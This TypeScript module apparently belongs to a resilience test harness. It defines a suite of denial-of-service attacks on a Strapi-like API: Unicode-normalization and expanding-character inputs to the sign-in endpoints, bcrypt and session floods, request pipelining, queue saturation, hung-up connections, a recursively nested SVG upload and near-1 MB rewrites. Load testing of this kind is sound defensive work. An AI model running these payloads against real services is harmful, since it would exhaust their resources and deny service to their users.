import { documentId } from '../content.js';
import { type Attack, addressOf, anyAddress, form, get, post, type Shot } from './attack.js';
import { FILE, IMPORTED, LOCKERS, PASSWORD } from './bait.js';

/** Combining marks of two classes in the order that takes longest to normalize. */
const marks = `a${'\u0315'.repeat(150_000)}${'\u0316'.repeat(150_000)}`;
/** One character that becomes 18. */
const expanding = '\ufdfa'.repeat(320_000);
const password = 'Password-1';

const LONG_NAMES: readonly Shot[] = [marks, expanding].flatMap((text) => [
  post('/auth/local', { identifier: text, password }),
  post('/auth/local/register', { username: text, email: 'a@example.test', password }),
  post('/auth/forgot-password', { email: text }),
]);

const SMALL: Shot = { method: 'GET', path: '/nothing' };

const wrongPassword = (n: number): Shot => ({
  ...post('/auth/local', { identifier: IMPORTED, password: `wrong ${n}` }),
  from: anyAddress(),
});

/** Each sign-in starts a session; between them come refresh tokens of no session. */
const session = (n: number): Shot => ({
  ...(n % 2 === 0
    ? post('/auth/local', { identifier: IMPORTED, password: PASSWORD })
    : post('/auth/refresh', { refreshToken: `${documentId('s', n)}.${'x'.repeat(40)}` })),
  from: anyAddress(),
});

/** The engine logs each as a change of almost 1 MB, while the content stays as large as it is. */
const rewriting = (n: number): Shot => ({
  ...post(`/lockers/${documentId('l', LOCKERS)}`, { data: { note: `${n}${'x'.repeat(900_000)}` } }),
  method: 'PUT',
});

const pins = (n: number): Shot =>
  post('/lockers', { data: { pins: Array.from({ length: n }, (_, i) => ({ code: `pin ${i}` })) } });

/** Each group uses the one before ten times: a few kilobytes for a million shapes. */
const nestedDrawing = (): Buffer => {
  const groups = [1, 2, 3, 4, 5, 6].map(
    (level) => `<g id="g${level}">${`<use href="#g${level - 1}"/>`.repeat(10)}</g>`,
  );
  const shapes = `<defs><path id="g0" d="M0 0L9 9"/>${groups.join('')}</defs><use href="#g6"/>`;
  return Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99">${shapes}</svg>`);
};

const needle = `${'a'.repeat(3000)}b`;

/** What takes the event loop, the threads or a place in a queue from all others. Those that write come last. */
export const starving: readonly Attack[] = [
  { name: 'long names', connections: 6, shot: (n) => LONG_NAMES[n % LONG_NAMES.length] ?? SMALL },
  { name: 'pipelined, 50 at once', connections: 20, shot: () => ({ ...SMALL, pipelined: 50 }) },
  { name: 'pipelined, 5,000 at once', connections: 10, shot: () => ({ ...SMALL, pipelined: 5000 }) },
  { name: 'sign-ins, bcrypt', connections: 60, shot: wrongPassword },
  // After the attack on its bcrypt hash, which the first sign-in replaces.
  { name: 'sessions', connections: 60, shot: session },
  {
    name: 'search in repetitive text',
    connections: 4,
    shot: (n) => get(`/lockers?filters[note][$containsi]=${n}${needle}&fields=id`),
  },
  {
    name: 'full queue, 9 addresses',
    connections: 270,
    shot: (n) => ({
      ...get(`/restaurants?pagination[pageSize]=100&populate=categories.restaurants&x=${n}`),
      from: addressOf(n % 9),
    }),
    visited: '/api/restaurants?populate=chef',
  },
  { name: 'distinct URLs', connections: 20, shot: (n) => get(`/restaurants?filters[name]=n${n}&x=${n}`) },
  {
    name: 'passwords, hung up',
    connections: 20,
    shot: (n) => ({ ...pins(n % 2 === 0 ? 1000 : 20), ending: { hangUpAfterMs: 300 } }),
  },
  {
    name: 'nested drawings',
    connections: 8,
    shot: (n) => form(nestedDrawing(), `${n}.svg`, 'image/svg+xml'),
    visited: `/uploads/${FILE}`,
  },
  { name: 'one entry rewritten', connections: 20, shot: rewriting },
];
